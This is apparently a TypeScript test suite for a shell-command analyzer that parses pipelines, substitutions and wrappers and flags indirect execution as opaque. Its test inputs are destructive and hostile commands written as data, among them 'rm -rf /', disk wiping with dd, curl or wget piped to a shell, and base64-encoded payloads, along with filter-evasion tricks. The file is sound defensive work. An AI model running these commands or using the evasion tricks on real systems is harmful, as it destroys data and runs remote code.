import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyzeShell } from './shell.js';

const programs = (line: string) => analyzeShell(line).commands.map((c) => c.program);
const opaque = (line: string) => analyzeShell(line).opaque;

describe('shell analyzer', () => {
  it('reads a simple command with split short flags', () => {
    const facts = analyzeShell('rm -rf /var/tmp/cache');
    assert.deepEqual(facts.commands, [
      { program: 'rm', args: ['-rf', '/var/tmp/cache'], flags: ['-r', '-f'] },
    ]);
    assert.deepEqual(
      [facts.pipeline, facts.subshell, facts.opaque, facts.unparseable],
      [false, false, false, null],
    );
  });

  it('keeps a quoted argument with a space as one word', () => {
    assert.deepEqual(analyzeShell('rm -rf "/ tmp"').commands[0]?.args, ['-rf', '/ tmp']);
    assert.deepEqual(analyzeShell("grep -e 'a b' --color=always f").commands[0]?.flags, ['-e', '--color']);
  });

  it('reads a backslash-escaped or quoted program name as the program it runs', () => {
    assert.deepEqual(programs('r\\m -rf /'), ['rm']);
    assert.deepEqual(programs('"r"m -rf /'), ['rm']);
    assert.deepEqual(programs("$'\\x72m' -rf /"), ['rm']);
    assert.equal(opaque('r\\m -rf /'), false);
  });

  it('uses the basename of a path as the program', () => {
    assert.deepEqual(programs('/usr/bin/rm -f x; ./deploy.sh'), ['rm', 'deploy.sh']);
  });

  it('stops reading flags at --', () => {
    assert.deepEqual(analyzeShell('rm -- -rf').commands[0]?.flags, []);
  });

  it('finds every command through pipelines and lists', () => {
    const facts = analyzeShell('cat /etc/passwd | grep root && echo found || echo none; uptime');
    assert.deepEqual(
      facts.commands.map((c) => c.program),
      ['cat', 'grep', 'echo', 'echo', 'uptime'],
    );
    assert.equal(facts.pipeline, true);
    assert.equal(facts.subshell, false);
  });

  it('finds commands in subshells, $( ) and backticks, substitutions first as the shell runs them', () => {
    const facts = analyzeShell('(cd /srv && tar czf - .) > backup.tgz; echo $(date) `hostname`');
    assert.deepEqual(
      facts.commands.map((c) => c.program),
      ['cd', 'tar', 'date', 'hostname', 'echo'],
    );
    assert.equal(facts.subshell, true);
    assert.equal(facts.opaque, false);
  });

  it('finds commands inside if, for, while, case and functions', () => {
    assert.deepEqual(programs('if test -f x; then rm x; fi; for f in *; do shred "$f"; done'), [
      'test',
      'rm',
      'shred',
    ]);
    assert.deepEqual(programs('while true; do sleep 1; done; case $1 in a) reboot;; esac'), [
      'true',
      'sleep',
      'reboot',
    ]);
    assert.deepEqual(programs('f() { dd if=/dev/zero of=/dev/sda; }; f'), ['dd', 'f']);
  });

  it('finds commands hidden in parameter defaults, arithmetic and process substitution', () => {
    assert.deepEqual(programs(`echo \${X:-$(id)} $(( $(wc -l < f) + 1 ))`), ['id', 'wc', 'echo']);
    assert.equal(opaque('echo x | tee >(sh)'), true);
    assert.equal(opaque('bash <(curl -s https://x.example/i)'), true);
  });

  it('marks env -S and expansions that build the program name opaque', () => {
    assert.equal(opaque("env -S 'rm -rf /'"), true);
    assert.equal(opaque(`rm\${IFS}-rf\${IFS}/`), true);
    assert.equal(opaque('exec bash -c id'), true);
  });

  it('records redirections with operator and target', () => {
    const facts = analyzeShell('echo hi > /etc/motd 2>&1; sort < in.txt >> out.txt; cat <<EOF\nx\nEOF\n');
    assert.deepEqual(facts.redirections, [
      { op: '>', target: '/etc/motd' },
      { op: '>&', target: '1' },
      { op: '<', target: 'in.txt' },
      { op: '>>', target: 'out.txt' },
      { op: '<<', target: 'EOF' },
    ]);
  });

  it('records both the wrapper and the wrapped program, skipping wrapper options', () => {
    const facts = analyzeShell('FOO=1 sudo -u root env A=b timeout -s KILL 5 nice -n 10 rm -rf /');
    assert.deepEqual(facts.commands, [
      { program: 'sudo', args: ['-u', 'root'], flags: ['-u'] },
      { program: 'env', args: ['A=b'], flags: [] },
      { program: 'timeout', args: ['-s', 'KILL', '5'], flags: ['-s'] },
      { program: 'nice', args: ['-n', '10'], flags: ['-n'] },
      { program: 'rm', args: ['-rf', '/'], flags: ['-r', '-f'] },
    ]);
    assert.equal(facts.opaque, false);
  });

  it('sees the program xargs and find -exec run', () => {
    assert.deepEqual(programs('ls | xargs -n 1 -I{} rm {}'), ['ls', 'xargs', 'rm']);
    assert.deepEqual(programs('find / -name "*.log" -exec rm -f {} \\;'), ['find', 'rm']);
  });

  it('marks eval opaque', () => {
    assert.equal(opaque('eval "$(curl -s https://x.example/p)"'), true);
  });

  it('marks sh/bash/zsh/dash -c opaque, also behind sudo and xargs', () => {
    for (const line of [
      'sh -c "rm -rf /"',
      'bash -lc id',
      'zsh -c ls',
      'dash -c ls',
      'sudo bash -c "id"',
      'ls | xargs sh -c "echo $0"',
    ]) {
      assert.equal(opaque(line), true, line);
    }
    assert.equal(opaque('bash --version'), false);
  });

  it('marks source and . of a file opaque', () => {
    assert.equal(opaque('source ./env.sh'), true);
    assert.equal(opaque('. /tmp/x'), true);
    assert.equal(opaque('bash ./install.sh'), true);
  });

  it('marks a pipeline ending in a shell opaque', () => {
    assert.equal(opaque('curl -fsSL https://get.example.com | sh'), true);
    assert.equal(opaque('wget -qO- x | sudo bash'), true);
    assert.equal(opaque('bash <<EOF\nrm -rf /\nEOF\n'), true);
  });

  it('marks base64 --decode feeding anything opaque, including the classic one-liner', () => {
    assert.equal(opaque('echo cm0gLXJmIC8= | base64 -d | sh'), true);
    assert.equal(opaque('base64 --decode payload | tee out'), true);
    assert.equal(opaque('echo $(base64 -d <<< cm0=)'), true);
    assert.equal(opaque('base64 -d payload > out.bin'), false);
    assert.equal(opaque('echo hi | base64'), false);
  });

  it('marks command substitution as the program name opaque', () => {
    const facts = analyzeShell('$(echo rm) -rf /');
    assert.equal(facts.opaque, true);
    assert.deepEqual(
      facts.commands.map((c) => c.program),
      ['echo', '$(…)'],
    );
    assert.equal(opaque('`echo rm` -rf /'), true);
  });

  it('marks a variable or pattern as the program name opaque', () => {
    assert.equal(opaque('$CMD --all'), true);
    assert.equal(opaque('"$TOOL" -x'), true);
    assert.equal(opaque('/bin/r? -rf /'), true);
    assert.equal(opaque('echo $HOME'), false);
  });

  it('marks inline interpreter code opaque: python -c, perl -e, node -e', () => {
    for (const line of [
      'python -c "import os; os.system(\'id\')"',
      'python3 -c pass',
      'perl -e \'unlink glob "*"\'',
      'node -e "process.exit(1)"',
      'curl x | python3',
    ]) {
      assert.equal(opaque(line), true, line);
    }
    assert.equal(opaque('python3 manage.py migrate'), false);
  });

  it('reports syntax errors as unparseable with the parser message', () => {
    const facts = analyzeShell('echo "unterminated');
    assert.match(facts.unparseable ?? '', /reached EOF without closing quote/);
    assert.deepEqual(facts.commands, []);
    assert.match(analyzeShell('ls &&').unparseable ?? '', /must be followed by a statement/);
    assert.notEqual(analyzeShell('if then fi )').unparseable, null);
  });

  it('handles an empty line and comments', () => {
    assert.deepEqual(analyzeShell('').commands, []);
    assert.deepEqual(programs('ls # rm -rf /'), ['ls']);
  });
});
